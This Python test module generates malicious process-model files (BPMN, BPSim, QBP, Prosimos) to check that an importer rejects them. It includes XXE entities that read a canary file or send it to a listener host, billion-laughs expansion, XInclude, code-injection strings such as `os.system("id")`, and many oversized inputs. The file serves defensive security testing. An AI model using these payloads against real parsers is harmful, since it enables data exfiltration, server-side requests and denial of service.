"""Bad models: BPMN, and the numbers of BPSim, QBP and Prosimos."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Final

from tests.bad_input.attack import CANARY_FILE, LISTENER, Attack, Expected, octets, text
from tests.interchange.making import MODELS, between, flow, process, prosimos, spread

_MEGABYTE: Final = 990_000
_TASK: Final = '<task id="{id}" name="A"/>'
GOOD: Final = process(between(_TASK, _TASK)).text
SWIMLANES: Final = (MODELS / "swimlanes.bpmn").read_bytes()
BPSIM: Final = (MODELS / "swimlanes.bpsim.xml").read_text("utf-8")
QBP: Final = (MODELS / "bimp.bpmn").read_text("utf-8")
EXCLUSIVE: Final = (MODELS / "exclusive_and_back.bpmn").read_bytes()
NUMBERS: Final = json.dumps(
    prosimos({"Check": spread("gamma", 60, 60, 0, 900), "Mend": 3}, gateways={"Fine": {"yes": 0.5, "no": 0.5}})
)
IMPORT: Final = ("import", "{file}")
CHECK: Final = ("check", "{file}")


def bpmn(what: str, content: str | bytes, expected: Expected = Expected.REFUSED) -> Attack:
    """A bad model."""
    made = octets(content) if isinstance(content, bytes) else text(content)
    return Attack("bpmn", what, "bad.bpmn", made, expected, (CHECK, IMPORT))


def entities(root: str, inside: str) -> Iterator[tuple[str, str]]:
    """Documents that declare what a careless parser fetches or blows up.

    Parameters
    ----------
    root : the name of the document's element
    inside : the document after its declaration; `&x;` stands where a text may be
    """
    laugh = "&a{};"
    for what, declared in {
        "entity of a file": f'<!ENTITY x SYSTEM "file://{CANARY_FILE}">',
        "entity of an address": f'<!ENTITY x SYSTEM "http://{LISTENER}/x">',
        "entity by a public name": f'<!ENTITY x PUBLIC "-//x" "http://{LISTENER}/x">',
        "entity of parameters": f'<!ENTITY % p SYSTEM "http://{LISTENER}/p"> %p; <!ENTITY x "y">',
        "entity of a parameter's file": f'<!ENTITY % p SYSTEM "file://{CANARY_FILE}"> %p; <!ENTITY x "y">',
        "entity that sends a file": f'<!ENTITY % f SYSTEM "file://{CANARY_FILE}"> <!ENTITY % e "<!ENTITY '
        f'&#37; s SYSTEM \'http://{LISTENER}/?%f;\'>"> %e; %s; <!ENTITY x "y">',
        "entity of itself": '<!ENTITY x "&x;">',
        "entities of entities": '<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{n} "{laugh.format(n - 1) * 10}">' for n in range(1, 30))
        + '<!ENTITY x "&a29;">',
        "entity of a megabyte": '<!ENTITY x "' + "a" * 400_000 + '">',
        "entity that is not parsed": f'<!NOTATION n SYSTEM "{CANARY_FILE}"><!ENTITY x SYSTEM "x" NDATA n>',
        "attribute by default": f'<!ATTLIST {root} id CDATA "x"><!ENTITY x "y">',
        "no entity": "",
    }.items():
        yield what, f'<?xml version="1.0"?><!DOCTYPE {root} [{declared}]>{inside}'
    yield "document type at an address", f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "http://{LISTENER}/d">{inside}'
    yield "entity of no document type", inside
    style = f'<?xml version="1.0"?><?xml-stylesheet href="http://{LISTENER}/s.xsl"?>'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{CANARY_FILE}" parse="text"/>'
    yield "style sheet and inclusion", style + inside.replace("&x;", include)


def shapeless(tag: str) -> Iterator[tuple[str, bytes]]:
    """Documents that are hardly any.

    Parameters
    ----------
    tag : of the document's element, with what it needs
    """
    name, long = tag.split(maxsplit=1)[0], "a" * _MEGABYTE
    yield "nothing", b""
    yield "spaces", b" " * _MEGABYTE
    yield "null bytes", b"\0" * _MEGABYTE
    yield "a null byte", f"<{tag}>\0</{name}>".encode()
    yield "half a document", f"<{tag}><a><b>".encode()
    yield "elements in each other", f"<{tag}>".encode() + b"<a>" * 240_000
    yield "elements beside each other", f"<{tag}>".encode() + b"<a/>" * 240_000 + f"</{name}>".encode()
    yield "attributes by the thousand", "<{} {}/>".format(tag, " ".join(f"a{n}='x'" for n in range(90_000))).encode()
    yield "the same attribute twice", f'<{tag} a="" a=""/>'.encode()
    yield "an attribute of a megabyte", f"<{tag} a='{long}'/>".encode()
    yield "a name of a megabyte", f"<{tag}><{'a' * _MEGABYTE}/></{name}>".encode()
    yield "a text of a megabyte", f"<{tag}>{'a' * _MEGABYTE}</{name}>".encode()
    yield "a text in pieces", f"<{tag}>{'&#97;' * (_MEGABYTE // 5)}</{name}>".encode()
    yield "a comment of a megabyte", f"<!--{'a' * _MEGABYTE}--><{tag}/>".encode()
    yield "comments by the thousand", f"<{tag}>{'a<!---->' * 100_000}</{name}>".encode()
    yield "a comment without an end", f"<!--{'a' * _MEGABYTE}".encode()
    yield (
        "namespaces by the thousand",
        "<{} {}/>".format(tag, " ".join(f"xmlns:a{n}='u{n}'" for n in range(40_000))).encode(),
    )
    declared = f'<?xml version="1.0" encoding="utf-16"?><{tag}/>'
    yield "UTF-16", declared.encode("utf-16")
    yield "UTF-16 in words only", declared.encode()
    yield "an encoding of nobody", f'<?xml version="1.0" encoding="klingon"?><{tag}/>'.encode()
    yield "an encoding that is code", f'<?xml version="1.0" encoding="unicode_escape"?><{tag} a="\\x3c"/>'.encode()
    yield "an encoding that unpacks", f'<?xml version="1.0" encoding="zlib"?><{tag}/>'.encode()
    yield "half a character", f"<{tag}>".encode() + b"\xe7\x94"
    yield "half a pair", f"<{tag}>&#xD800;</{name}>".encode()
    yield "a number for no character", f"<{tag}>&#99999999999;</{name}>".encode()
    yield "six megabytes", f"<{tag}>{'<a/>' * 1_500_000}</{name}>".encode()


def models() -> Iterator[Attack]:
    """Every bad model, and some that are good."""
    yield bpmn("good", GOOD, Expected.TAKEN)
    yield bpmn("good with numbers", QBP, Expected.TAKEN)
    yield bpmn("good in UTF-8 with a mark", b"\xef\xbb\xbf" + GOOD.encode(), Expected.TAKEN)
    named = GOOD.partition("?>")[2].replace('name="A"', 'name="&x;"', 1)
    for what, content in entities("definitions", named):
        yield bpmn(what, content)
    for what, made in shapeless('definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"'):
        yield bpmn(what, made)
    yield from _drawn()
    yield from _numbered()


def _drawn() -> Iterator[Attack]:
    def drawn(what: str, inside: str, around: str = "", expected: Expected = Expected.REFUSED) -> Attack:
        return bpmn(what, process(inside, around).text, expected)

    ends = '<startEvent id="s"/><endEvent id="e"/>'
    yield drawn("no shapes", "")
    yield drawn("the same id twice", between(_TASK, _TASK).replace('"n2"', '"n1"'))
    yield drawn("a flow to nowhere", ends + flow("f", "s", "nowhere"))
    yield drawn("a flow from itself to itself", ends + '<task id="t"/>' + flow("f", "s", "t") + flow("g", "t", "t"))
    yield drawn("a deadlock", ends + '<exclusiveGateway id="x"/><task id="a"/><task id="b"/><parallelGateway id="y"/>'
                + flow("1", "s", "x") + flow("2", "x", "a") + flow("3", "x", "b") + flow("4", "a", "y")
                + flow("5", "b", "y") + flow("6", "y", "e"))  # fmt: skip
    yield drawn("lack of synchronisation", ends + '<parallelGateway id="x"/><task id="a"/><task id="b"/>'
                '<exclusiveGateway id="y"/><task id="c"/>' + flow("1", "s", "x") + flow("2", "x", "a")
                + flow("3", "x", "b") + flow("4", "a", "y") + flow("5", "b", "y") + flow("6", "y", "c")
                + flow("7", "c", "e"))  # fmt: skip
    yield drawn("a circle without a way out", ends + '<exclusiveGateway id="x"/><task id="a"/>' + flow("1", "s", "x")
                + flow("2", "x", "a") + flow("3", "a", "x"))  # fmt: skip
    script = '<scriptTask id="{id}" scriptFormat="python"><script>import os; os.system("id")</script></scriptTask>'
    yield drawn("a script", between(script), expected=Expected.EITHER)
    service = f'<serviceTask id="{{id}}" implementation="http://{LISTENER}/run" operationRef="x"/>'
    yield drawn("a service at an address", between(service), expected=Expected.EITHER)
    imports = f'<import importType="http://www.w3.org/2001/XMLSchema" location="http://{LISTENER}/x" namespace="x"/>'
    yield drawn("an import of an address", between(_TASK), imports, Expected.EITHER)
    calls = f'<callActivity id="{{id}}" calledElement="{CANARY_FILE}"/>'
    yield drawn("a call of a file", between(calls))
    yield drawn("a call of itself", between('<callActivity id="{id}" calledElement="p"/>'))
    for depth in (25, 60):
        nested = ends + '<task id="t"/>' + flow("a", "s", "t") + flow("b", "t", "e")
        for n in range(depth):
            nested = (f'<startEvent id="s{n}"/><endEvent id="e{n}"/><subProcess id="p{n}">{nested}</subProcess>'
                      + flow(f"a{n}", f"s{n}", f"p{n}") + flow(f"b{n}", f"p{n}", f"e{n}"))  # fmt: skip
        yield drawn(f"{depth} processes in each other", nested, expected=Expected.EITHER)
    doubled = "".join(
        f'<process id="q{n}"><startEvent id="q{n}s"/><callActivity id="q{n}a" calledElement="q{n + 1}"/>'
        f'<callActivity id="q{n}b" calledElement="q{n + 1}"/><endEvent id="q{n}e"/>'
        + flow(f"q{n}1", f"q{n}s", f"q{n}a") + flow(f"q{n}2", f"q{n}a", f"q{n}b") + flow(f"q{n}3", f"q{n}b", f"q{n}e")
        + "</process>" for n in range(28)
    )  # fmt: skip
    yield drawn("calls that double", between('<callActivity id="{id}" calledElement="q0"/>'), doubled)
    yield drawn("a thousand tasks in a row", between(*[_TASK] * 1_000), expected=Expected.EITHER)
    yield drawn("three thousand tasks in a row", between(*[_TASK] * 3_000), expected=Expected.EITHER)
    yield drawn("tasks that nothing leads to", between(_TASK) + "".join(f'<task id="x{n}"/>' for n in range(10_000)))
    yield drawn("flows by the thousand", between(_TASK) + "".join(flow(f"x{n}", "n1", "end") for n in range(9_000)))
    yield drawn("gateways in a row", _gateways(120), expected=Expected.EITHER)
    yield drawn("gateways in a tangle", _tangle(60), expected=Expected.EITHER)
    yield drawn("branches that go round", _branches(30), expected=Expected.EITHER)
    yield drawn("two to the power of thirty ways", _fan("inclusiveGateway", 30), expected=Expected.EITHER)
    yield drawn("two to the power of four hundred ways", _fan("inclusiveGateway", 400), expected=Expected.EITHER)
    yield drawn("four hundred branches", _fan("parallelGateway", 400), expected=Expected.EITHER)


def _gateways(count: int) -> str:
    drawn, before = ['<startEvent id="s"/><endEvent id="e"/>'], "s"
    for n in range(count):
        drawn.append(f'<exclusiveGateway id="x{n}"/><exclusiveGateway id="y{n}"/><task id="a{n}"/><task id="b{n}"/>')
        drawn += [flow(f"f{n}{a}", *pair) for a, pair in enumerate(
            ((before, f"x{n}"), (f"x{n}", f"a{n}"), (f"x{n}", f"b{n}"), (f"a{n}", f"y{n}"), (f"b{n}", f"y{n}"))
        )]  # fmt: skip
        before = f"y{n}"
    return "".join((*drawn, flow("last", before, "e")))


def _tangle(count: int) -> str:
    drawn = ['<startEvent id="s"/><endEvent id="e"/>']
    drawn += [f'<exclusiveGateway id="x{n}"/><task id="t{n}"/>{flow(f"i{n}", f"t{n}", f"x{n}")}' for n in range(count)]
    pairs = [(n, m) for n in range(count) for m in range(count)]
    drawn += [flow(f"f{n}x{m}", f"x{n}", f"t{m}") for n, m in pairs]
    return "".join((*drawn, flow("first", "s", "t0"), flow("last", "x0", "e")))


def _branches(count: int) -> str:
    drawn = ['<startEvent id="s"/><endEvent id="e"/><parallelGateway id="p"/><parallelGateway id="q"/>']
    drawn += [flow("first", "s", "p"), flow("last", "q", "e")]
    for n in range(count):
        drawn.append(f'<exclusiveGateway id="x{n}"/><task id="a{n}"/><task id="b{n}"/><exclusiveGateway id="y{n}"/>')
        drawn += [flow(f"f{n}x{a}", *pair) for a, pair in enumerate((
            ("p", f"x{n}"), (f"x{n}", f"a{n}"), (f"a{n}", f"b{n}"), (f"b{n}", f"y{n}"), (f"y{n}", f"x{n}"),
            (f"y{n}", "q")))]  # fmt: skip
    return "".join(drawn)


def _fan(kind: str, count: int) -> str:
    drawn = [f'<startEvent id="s"/><endEvent id="e"/><{kind} id="p"/><{kind} id="q"/>']
    drawn += [flow("first", "s", "p"), flow("last", "q", "e")]
    drawn += [f'<task id="a{n}"/>{flow(f"f{n}", "p", f"a{n}")}{flow(f"g{n}", f"a{n}", "q")}' for n in range(count)]
    return "".join(drawn)


def _numbered() -> Iterator[Attack]:
    for what, content in _bpsim():
        yield _with("bpsim", what, content, "numbers.xml", SWIMLANES)
    yield _with("bpsim", "good", BPSIM.encode(), "numbers.xml", SWIMLANES, Expected.TAKEN)
    for what, content in _qbp():
        yield Attack("qbp", what, "bad.bpmn", octets(content), Expected.REFUSED, (CHECK, IMPORT))
    yield Attack("qbp", "good", "good.bpmn", text(QBP), Expected.TAKEN, (CHECK, IMPORT))
    for what, content in _prosimos():
        yield _with("prosimos", what, content, "numbers.json", EXCLUSIVE)
    yield _with("prosimos", "good", NUMBERS.encode(), "numbers.json", EXCLUSIVE, Expected.TAKEN)


def _with(
    kind: str, what: str, content: bytes, file: str, model: bytes, expected: Expected = Expected.REFUSED
) -> Attack:
    """Bad numbers of a good model."""
    commands = (("import", "{folder}/model.bpmn", "--parameters", "{file}"), ("check", "{folder}/model.bpmn+{file}"))
    return Attack(kind, what, file, octets(content), expected, commands, (("model.bpmn", model),))


def _bpsim() -> Iterator[tuple[str, bytes]]:
    for what, content in entities("BPSimData", BPSIM.partition("?>")[2].replace('name="now"', 'name="&x;"')):
        yield what, content.encode()
    yield from shapeless('bpsim:BPSimData xmlns:bpsim="http://www.bpsim.org/schemas/2.0"')
    for value in ("NaN", "Infinity", "-INF", "1e400", "-1", "", "x", "0x10", "9" * 5_000, "1e12"):
        yield f"two people are {value[:20]}", BPSIM.replace('value="2"', f'value="{value}"').encode()
    for value in ("NaN", "Infinity", "1e400", "-20", "9" * 5_000, "1e300"):
        yield f"a mean of {value[:20]}", BPSIM.replace('mean="20"', f'mean="{value}"').encode()
    for value in ("PT1e400H", "-PT3H", "P999999999Y", "PT", "P" + "9" * 400_000 + "D", "P1" * 100_000):
        yield f"a span of {value[:20]}", BPSIM.replace("PT3H", value).encode()
    for rule in ("FREQ=SECONDLY", "FREQ=WEEKLY;BYDAY=XX", "FREQ=WEEKLY;COUNT=1000000000", "FREQ=WEEKLY;INTERVAL=0"):
        yield f"a calendar of {rule}", BPSIM.replace("FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR", rule).encode()
    for begin in ("99999999T999999", "20240101"):  # the day is not looked at, the time is
        yield f"a calendar from {begin[:20]}", BPSIM.replace("20240101T090000", begin).encode()
    expression = "bpsim:getResource('experts',1)"
    for value in (
        "__import__('os').system('id')",
        "(" * 200_000,
        "bpsim:getResource('nobody',1)",
        f"document('{CANARY_FILE}')",
    ):
        yield f"an expression {value[:20]}", BPSIM.replace(expression, value).encode()
    yield "numbers for what is not drawn", BPSIM.replace('elementRef="Accept"', 'elementRef="nothing"').encode()
    yield "the same numbers twice", BPSIM.replace('elementRef="Accept"', 'elementRef="Judge"').encode()


def _qbp() -> Iterator[tuple[str, bytes]]:
    first = next(part for part in QBP.split() if part.startswith("mean="))
    for value in ("Infinity", "1e400", "-1", "x", "9" * 5_000, "1e300"):
        yield f"a mean of {value[:20]}", QBP.replace(first, f'mean="{value}"', 1).encode()
    for value in ("1000000000", "-1", "0.5", "NaN", "1e400"):
        begun = QBP.index("totalAmount=") + len('totalAmount="')
        yield f"people {value}", (QBP[:begun] + value + QBP[QBP.index('"', begun) :]).encode()
    begun = QBP.index("executionProbability=") + len('executionProbability="')
    for value in ("2", "-1", "NaN", "0.9999"):
        yield f"a chance of {value}", (QBP[:begun] + value + QBP[QBP.index('"', begun) :]).encode()
    yield "people who are not there", QBP.replace("resourceId>", "resourceId>x", 1).encode()
    yield "a law that is not there", QBP.replace('type="', 'type="X', 1).encode()


def _prosimos() -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "lists in each other", b"[" * 900_000
    yield "objects in each other", b'{"a":' * 100_000
    yield "null bytes", b"\0" * 900_000
    yield "UTF-16", NUMBERS.encode("utf-16")
    yield "half a pair", NUMBERS.replace('"Team"', '"\\ud800"').encode()
    yield (
        "the same field twice",
        NUMBERS.replace('{"resource_profiles"', '{"resource_profiles": [], "resource_profiles"').encode(),
    )
    yield "a number where a list is", NUMBERS.replace('"event_distribution": []', '"event_distribution": 1').encode()
    for value in ("NaN", "Infinity", "-Infinity", "1e400", "-1", "null", '"x"', "[]", "true", "9" * 5_000, "1e300"):
        yield f"a span of {value[:20]}", NUMBERS.replace('"value": 60', f'"value": {value}').encode()
    for value in ("1000000000", "-1", "0.5", "NaN", "1e400"):
        yield f"people {value}", NUMBERS.replace('"amount": 9', f'"amount": {value}').encode()
    for value in ("2", "-1", "NaN", "0.4"):
        yield f"a chance of {value}", NUMBERS.replace('"value": 0.5', f'"value": {value}', 1).encode()
    yield "a calendar of nobody", NUMBERS.replace('"calendar": "hours"', '"calendar": "x"').encode()
    yield "a law that is not there", NUMBERS.replace('"gamma"', '"__import__"').encode()
    yield "hours that are none", NUMBERS.replace("23:59:59", "99:99:99").encode()
    yield "people by the thousand", NUMBERS.replace(
        '"resource_list": [', '"resource_list": [' + '{"id": "x"}, ' * 12_000).encode()  # fmt: skip
    yield "six megabytes", b" " * 6_000_000
